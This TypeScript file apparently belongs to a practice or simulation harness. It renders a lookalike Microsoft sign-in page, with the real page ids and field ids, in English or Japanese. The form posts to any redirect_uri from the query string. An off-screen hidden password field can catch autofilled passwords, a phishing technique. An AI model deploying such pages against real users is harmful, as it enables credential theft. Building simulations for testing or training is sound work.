// A sign-in page with the skeleton of the real one (page id, field and button ids). Next goes on to
// `redirect_uri`; with auto=1 at once, by the self-submitting form the real flow ends with.
import { escapeHtml, page } from './html.ts';

const texts = {
  en: {
    title: 'Sign in to your account',
    heading: 'Sign in',
    user: 'Email, phone, or Skype',
    next: 'Next',
    locale: 'en-US',
  },
  ja: {
    title: 'アカウントにサインイン',
    heading: 'サインイン',
    user: 'メール、電話、または Skype',
    next: '次へ',
    locale: 'ja-JP',
  },
};

const fallback = 'https://admin.microsoft.com/?practice=healthy';

const hiddenFields = ['code', 'id_token', 'state', 'session_state']
  .map((name) => `<input type="hidden" name="${name}" value="practice">`)
  .join('');

function workingPage(target: string): string {
  const body = `<form method="POST" name="hiddenform" action="${escapeHtml(target)}">${hiddenFields}
<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="Submit"></noscript></form>
<script>document.forms[0].submit();</script>`;
  return page({ title: 'Working...', body, bar: false });
}

export function signInPage(url: URL): string {
  const locale =
    url.searchParams.get('mkt') ?? url.searchParams.get('ui_locales') ?? url.searchParams.get('lang');
  const lang = locale?.startsWith('ja') ? 'ja' : 'en';
  const text = texts[lang];
  const target = url.searchParams.get('redirect_uri') ?? fallback;
  if (url.searchParams.has('auto')) return workingPage(target);
  return page({
    title: text.title,
    lang,
    head: `<meta name="PageID" content="ConvergedSignIn">
<meta name="SiteID" content="">
<meta name="ReqLC" content="${lang === 'ja' ? 1041 : 1033}">
<meta name="LocLC" content="${text.locale}">
<script>$Config={"pgid":"ConvergedSignIn","sErrorCode":"50058","sErrTxt":"","locale":{"mkt":"${text.locale}"}};</script>`,
    style: `body { background: #f2f2f2; }
#lightbox { width: 22rem; margin: 6rem auto; padding: 2.5rem; background: #fff; box-shadow: 0 2px 6px #0003; }
#i0116 { width: 100%; box-sizing: border-box; padding: 0.4rem 0; font: inherit; border: 0; border-bottom: 1px solid #666; }
.moveOffScreen { position: fixed; bottom: 0; right: 0; height: 0; width: 0; overflow: hidden; opacity: 0; }
#idSIButton9 { float: right; margin-top: 1.5rem; padding: 0.4rem 2rem; font: inherit; color: #fff; background: #0067b8; border: 0; }`,
    body: `<div id="lightbox"><div class="pagination-view">
<form method="POST" name="f1" action="${escapeHtml(target)}">
<div id="loginHeader" role="heading" aria-level="1">${text.heading}</div>
<input type="email" name="loginfmt" id="i0116" autocomplete="username" aria-label="${text.user}" placeholder="${text.user}">
<input type="password" name="passwd" id="i0118" class="moveOffScreen" tabindex="-1" aria-hidden="true" autocomplete="off">
${hiddenFields}
<input type="submit" id="idSIButton9" value="${text.next}">
</form></div></div>`,
  });
}
